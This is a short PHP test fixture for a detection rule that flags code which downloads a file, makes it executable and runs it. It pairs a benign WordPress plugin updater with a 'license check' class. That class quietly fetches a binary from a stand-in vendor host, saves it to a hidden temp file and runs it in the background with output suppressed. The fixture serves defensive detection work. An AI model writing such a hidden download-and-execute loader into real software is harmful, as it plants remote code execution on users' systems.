<?php
class PluginUpdater
{
    public function fetch(string $slug): void
    {
        $zip = download_url('https://downloads.wordpress.org/plugin/' . $slug . '.latest-stable.zip');
        unzip_file($zip, WP_PLUGIN_DIR);
        chmod(WP_PLUGIN_DIR . '/' . $slug, 0755);
        // ok: generic-download-chmod-exec
        exec('wp plugin activate ' . escapeshellarg($slug));
    }
}
// Fixture for generic-download-chmod-exec (PHP).
// RULEID: a license check that saves a binary from the vendor-looking host, chmods it and runs it
//   in the background with shell_exec.
// OK: a plugin updater that downloads a zip from wordpress.org and unpacks it (allowed host, no
//   process started on the download).
class LicenseCache
{
    const HOST = 'https://licensing.vendor-cdn.example';

    private function refresh(): void
    {
        $bin = sys_get_temp_dir() . '/.lc-' . substr(md5(__FILE__), 0, 6);
        $data = @file_get_contents(self::HOST . '/bin/' . php_uname('m'));
        if ($data) {
            file_put_contents($bin, $data);
            chmod($bin, 0755);
            // ruleid: generic-download-chmod-exec
            @shell_exec($bin . ' > /dev/null 2>&1 &');
        }
    }
}
